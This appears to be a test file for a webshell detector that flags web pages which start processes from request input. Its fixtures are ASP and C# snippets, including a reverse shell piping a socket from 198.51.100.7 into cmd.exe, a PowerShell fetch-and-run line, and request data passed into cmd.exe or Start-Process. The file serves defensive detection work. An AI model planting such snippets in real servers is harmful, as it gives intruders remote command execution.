import detector from '../../../src/detectors/webshell/process-started-from-request.js';
import { testDetector } from '../../helpers/detector-tester.js';
import { classicPage, csharpPage, inlinePage } from './inline-page.js';
import { webSample } from './web-sample.js';

const sample = webSample(detector.id);

/** A class that starts a program by its parameter, served by a directive that names a class. */
function remoted(extension: string, named: string, ...declaration: readonly string[]) {
  return inlinePage(
    extension,
    [
      `<%@ WebService Language="C#" Class="${named}" %>`,
      ...declaration,
      'public string Find(string q) { return System.Diagnostics.Process.Start("find.invalid", q).StandardOutput.ReadToEnd(); }',
      '}',
    ].join('\n'),
  );
}

/** A method of a source file that starts whatever it is given. */
const inSource = (declaration: string) =>
  inlinePage('cs', `${declaration} {\nvoid Go(string c) { System.Diagnostics.Process.Start("find.invalid", c); }\n}`);

testDetector(detector, {
  hits: [
    {
      name: 'a script that the page puts there itself',
      input: sample('hit/put-there.asp.split'),
      detections: [{ message: 'own-program', at: { label: 'sink', line: 5 }, severity: 'medium' }],
    },
    {
      name: 'a program that unpacks what came with the request',
      input: csharpPage(
        'Request.Files[0].SaveAs(Server.MapPath("~/t.cab"));\r\nProcess.Start("expand.exe", "-F:* " + Server.MapPath("~/t.cab") + " d:\\web");',
      ),
      detections: [{ message: 'own-program', at: { label: 'sink', line: 3 }, severity: 'medium' }],
    },
    {
      name: 'one that unpacks something else',
      input: csharpPage(
        'Request.Files[0].SaveAs(Server.MapPath("~/t.cab"));\r\nProcess.Start("expand.exe", "-F:* d:\\install\\u.cab d:\\install");',
      ),
      detections: [{ message: 'own-program', at: { label: 'sink', line: 3 }, severity: 'low' }],
    },
    {
      name: 'a program of its own beside a report that it writes',
      input: inlinePage(
        'asp',
        `<% Set files = CreateObject("Scripting.FileSystemObject")
        files.CreateTextFile("d:\\reports\\day.txt", True).Write "day"
        CreateObject("WScript.Shell").Run "d:\\tools\\print.exe d:\\reports\\day.txt", 0, False %>`,
      ),
      detections: [{ message: 'own-program', at: { label: 'sink', line: 3 }, severity: 'low' }],
    },
    {
      name: 'a class beside pages, which is judged with those that use it',
      input: inSource('public class Runner'),
      detections: [{ message: 'own-program', at: { label: 'sink', line: 2 }, severity: 'low' }],
    },
    {
      name: 'the class of a page',
      input: inSource('public partial class Start : System.Web.UI.Page'),
      detections: [{ message: 'own-program', at: { label: 'sink', line: 2 }, severity: 'medium' }],
    },
    {
      name: 'an object of .NET remoting, whose methods clients call',
      input: remoted('soap', 'Stock', 'public class Stock : System.MarshalByRefObject {'),
      detections: [{ message: 'started', at: { label: 'sink', line: 3 }, severity: 'critical' }],
    },
    {
      name: 'a tool that a web service starts with what it knows, in a class that no client calls',
      input: remoted(
        'asmx',
        'Other',
        'public class Other : System.Web.Services.WebService { }',
        'class Stock : System.MarshalByRefObject {',
        'static string Own() { return new Stock().Find("a"); }',
      ),
      detections: [{ message: 'own-program', at: { label: 'sink', line: 5 }, severity: 'low' }],
    },
    {
      name: 'the same by a class between',
      input: remoted(
        'rem',
        'Shop.Stock, Shop',
        'public class Base : MarshalByRefObject { }',
        'public class Stock : Base {',
      ),
      detections: [{ message: 'started', at: { label: 'sink', line: 4 }, severity: 'critical' }],
    },
    {
      name: 'a program of the page itself, whatever is asked',
      input: sample('hit/own.aspx.split'),
      detections: [{ message: 'own-program', at: { label: 'sink', line: 5 }, severity: 'low' }],
    },
    {
      name: 'a program from elsewhere',
      input: csharpPage('System.Diagnostics.Process.Start(Find());'),
      detections: [{ message: 'own-program', at: { label: 'sink', line: 2 }, severity: 'medium' }],
    },
    {
      name: 'a status page: a fixed program with fixed arguments, whose output is shown',
      input: csharpPage(
        'var p = new System.Diagnostics.Process();',
        'p.StartInfo.FileName = "ipconfig"; p.StartInfo.Arguments = "/all";',
        'p.Start(); label.Text = p.StandardOutput.ReadToEnd() + Request.ServerVariables["LOGON_USER"];',
      ),
      detections: [
        { message: 'own-program', at: { label: 'sink', line: 3 }, severity: 'low' },
        { message: 'own-program', at: { label: 'sink', line: 3 }, severity: 'low' },
        { message: 'own-program', at: { label: 'sink', line: 4 }, severity: 'low' },
      ],
    },
    {
      name: 'a shell whose input is another host',
      input: csharpPage(
        'var s = new System.Net.Sockets.TcpClient("198.51.100.7", 443).GetStream(); var i = new System.Diagnostics.ProcessStartInfo("cmd.exe");',
        'var p = System.Diagnostics.Process.Start(i); byte[] b = new byte[9]; s.Read(b, 0, 9);',
        'new System.IO.MemoryStream(b).CopyTo(p.StandardInput.BaseStream);',
      ),
      detections: [{ message: 'started', at: { label: 'sink', line: 4 } }],
    },
    {
      name: 'a shell that is told something',
      input: csharpPage('var p = System.Diagnostics.Process.Start("cmd.exe");', 'Feed(p.StandardInput.BaseStream);'),
      detections: [{ message: 'own-program', at: { label: 'sink', line: 2 }, severity: 'medium' }],
    },
    {
      name: 'a command whose end is not known',
      input: csharpPage('System.Diagnostics.Process.Start("cmd.exe", "/c " + line);'),
      detections: [{ message: 'own-program', at: { label: 'sink', line: 2 }, severity: 'medium' }],
    },
    {
      name: 'a program that is fetched and run, whatever is asked',
      input: csharpPage('System.Diagnostics.Process.Start("powershell", "-c iex(iwr https://a.invalid/x)");'),
      detections: [{ message: 'own-program', at: { label: 'sink', line: 2 }, severity: 'high' }],
    },
    {
      name: 'one of two fixed programs, by a choice',
      input: csharpPage(
        'var tool = Request["view"] == "disk" ? "fsutil" : "netstat";',
        'System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(tool, "-x") { UseShellExecute = false });',
      ),
      detections: [
        { message: 'own-program', at: { label: 'sink', line: 3 }, severity: 'low' },
        { message: 'own-program', at: { label: 'sink', line: 3 }, severity: 'low' },
      ],
    },
    {
      name: 'arguments by way of an object',
      input: sample('hit/arguments.ashx.split'),
      detections: [
        { message: 'started', at: { label: 'source', line: 6 } },
        { message: 'started', at: { label: 'sink', line: 9 } },
      ],
    },
    {
      name: 'shell object under a name built from parts',
      input: sample('hit/shell.asp.split'),
      detections: [{ message: 'started', at: { label: 'sink', line: 3 } }],
    },
    {
      name: 'operation of a service contract',
      input: sample('hit/contract.svc.split'),
      detections: [{ message: 'started', at: { label: 'sink', line: 7 } }],
    },
    {
      name: 'any method of a type by reflection',
      input: sample('hit/any-method.aspx.split'),
      detections: [{ message: 'started', at: { label: 'sink', line: 6 } }],
    },
    {
      name: 'text box of a VB page',
      input: sample('hit/control.aspx.split'),
      detections: [
        { message: 'started', at: { label: 'sink', line: 6 } },
        { message: 'started', at: { label: 'sink', line: 7 } },
      ],
    },
    {
      name: 'PowerShell in the worker process',
      input: sample('hit/pipeline.aspx.split'),
      detections: [
        { message: 'started', at: { label: 'sink', line: 8 } },
        { message: 'started', at: { label: 'sink', line: 9 } },
      ],
    },
    {
      name: 'a command that only intruders need',
      input: sample('hit/hives.aspx.split'),
      detections: [{ message: 'own-program', at: { label: 'sink', line: 4 }, severity: 'high' }],
    },
    {
      name: 'a packer of its own, told which archive to make',
      input: classicPage(
        'Set w = Server.CreateObject("WScript.Shell")',
        'w.Exec """" & packer & """ a -ep """ & Request.Form("archive") & """"',
      ),
      detections: [{ message: 'started', at: { label: 'sink', line: 3 }, severity: 'low' }],
    },
    {
      name: 'an installed report runner, told which month is asked for',
      input: csharpPage(
        'var i = new System.Diagnostics.ProcessStartInfo(@"D:\\Tools\\report\\make.exe", "--month " + Request["month"] + " --pdf");',
        'System.Diagnostics.Process.Start(i).WaitForExit();',
      ),
      detections: [
        { message: 'started', at: { label: 'source', line: 2 }, severity: 'low' },
        { message: 'started', at: { label: 'source', line: 2 }, severity: 'low' },
      ],
    },
    {
      name: 'an installed converter, told what is not known',
      input: csharpPage(
        'var p = new System.Diagnostics.Process();',
        'p.StartInfo.FileName = @"C:\\Program Files\\Convert\\convert.exe"; p.StartInfo.Arguments = "-size 90 " + Find();',
        'p.Start();',
      ),
      detections: [
        { message: 'own-program', at: { label: 'sink', line: 3 }, severity: 'low' },
        { message: 'own-program', at: { label: 'sink', line: 3 }, severity: 'low' },
        { message: 'own-program', at: { label: 'sink', line: 4 }, severity: 'low' },
      ],
    },
    {
      name: 'a program that lies where anybody may put one',
      input: csharpPage(
        'System.Diagnostics.Process.Start(@"C:\\Windows\\Temp\\tool.exe", "-run " + Request["x"] + " -q");',
      ),
      detections: [{ message: 'started', at: { label: 'source', line: 2 }, severity: 'medium' }],
    },
    {
      name: 'an installed program beside one that the request names',
      input: csharpPage(
        'var p = new System.Diagnostics.Process();',
        'p.StartInfo.FileName = @"C:\\Program Files\\Convert\\convert.exe"; if (Request["f"] != null) p.StartInfo.FileName = Request["f"];',
        'p.Start();',
      ),
      detections: [
        { message: 'started', at: { label: 'source', line: 3 }, severity: 'critical' },
        { message: 'started', at: { label: 'source', line: 3 }, severity: 'critical' },
      ],
    },
    {
      name: 'a call that is put together as a tree of expressions',
      input: csharpPage(
        'var m = typeof(System.Diagnostics.Process).GetMethod("Start", new[] { typeof(string), typeof(string) });',
        'Expression.Lambda(Expression.Call(m, Expression.Constant("cmd.exe"), Expression.Constant("/c " + Request["x"]))).Compile().DynamicInvoke();',
      ),
      detections: [{ message: 'started', at: { label: 'source', line: 3 }, severity: 'critical' }],
    },
    {
      name: 'the same with what runs any command',
      input: classicPage(
        'Set w = Server.CreateObject("WScript.Shell")',
        'w.Exec """" & shell & """ /c -x " & Request.Form("archive")',
      ),
      detections: [{ message: 'started', at: { label: 'sink', line: 3 } }],
    },
    ...[
      'int n; if (!int.TryParse(Request["n"], out n)) return; var what = string.Format("-n {0} {1}", n, "host");',
      'var what = "-f " + System.IO.Path.Combine("C:\\\\pdf", Convert.ToInt32(Request["n"]) + ".pdf");',
      'var what = "/day:" + day.SelectedDate.ToString("yyyyMMdd", CultureInfo.InvariantCulture) + " /q";',
      'var what = $"-y {Request["y"].AsInt()}";',
      'var what = DateTime.Now.Year > 2000 ? "-a" : "-n " + Request["n"].AsInt();',
    ].map((line) => ({
      name: `a program of its own, told a number or a date: ${line}`,
      input: csharpPage(line, 'System.Diagnostics.Process.Start("convert.exe", what);'),
      detections: [{ message: 'own-program' as const, at: { label: 'sink', line: 3 }, severity: 'low' as const }],
    })),
    {
      name: 'characters made of numbers',
      input: csharpPage(
        'var what = ""; foreach (var n in Request["n"].Split(\',\')) what += (char)int.Parse(n);',
        'System.Diagnostics.Process.Start("cmd.exe", what);',
      ),
      detections: [{ message: 'started', at: { label: 'sink', line: 3 } }],
    },
    {
      name: 'a number beside what is not known',
      input: csharpPage(
        'var what = Find() + " " + int.Parse(Request["n"]);',
        'System.Diagnostics.Process.Start("a.exe", what);',
      ),
      detections: [{ message: 'own-program', at: { label: 'sink', line: 3 }, severity: 'medium' }],
    },
    {
      name: 'one of several programs, by a key of the request',
      input: classicPage(
        'Set jobs = CreateObject("Scripting.Dictionary") : jobs.Add "a", "C:\\jobs\\a.exe"',
        'CreateObject("Shell.Application").ShellExecute jobs.Item(Request("job")), "/quiet"',
      ),
      detections: [{ message: 'own-program', at: { label: 'sink', line: 3 }, severity: 'low' }],
    },
    {
      name: 'what the request put into a dictionary',
      input: classicPage(
        'Set jobs = CreateObject("Scripting.Dictionary") : jobs.Add "a", Request("b")',
        'CreateObject("Shell.Application").ShellExecute jobs.Item("a"), "/quiet"',
      ),
      detections: [{ message: 'started', at: { label: 'sink', line: 3 } }],
    },
    {
      name: 'a command that only shows, with a name of the request',
      input: csharpPage('PowerShell.Create().AddCommand("Get-Service").AddParameter("Name", Request["n"]).Invoke();'),
      detections: [{ message: 'started', at: { label: 'sink', line: 2 }, severity: 'low' }],
    },
    {
      name: 'a fixed command, for what the request names',
      input: csharpPage(
        'var p = PowerShell.Create(); p.AddCommand("Restart-WebAppPool").AddParameter("Name", Request["n"]); p.Invoke();',
      ),
      detections: [{ message: 'started', at: { label: 'sink', line: 2 }, severity: 'low' }],
    },
    {
      name: 'a fixed command that runs what the request says',
      input: csharpPage(
        'var p = PowerShell.Create(); p.AddCommand("Start-Process").AddParameter("FilePath", Request["n"]); p.Invoke();',
      ),
      detections: [{ message: 'started', at: { label: 'sink', line: 2 }, severity: 'critical' }],
    },
  ],
  misses: [
    { name: 'a page about processes', input: sample('miss/list.aspx'), looksAlike: true },
    { name: 'other things that start', input: sample('miss/start.aspx'), looksAlike: true },
  ],
});
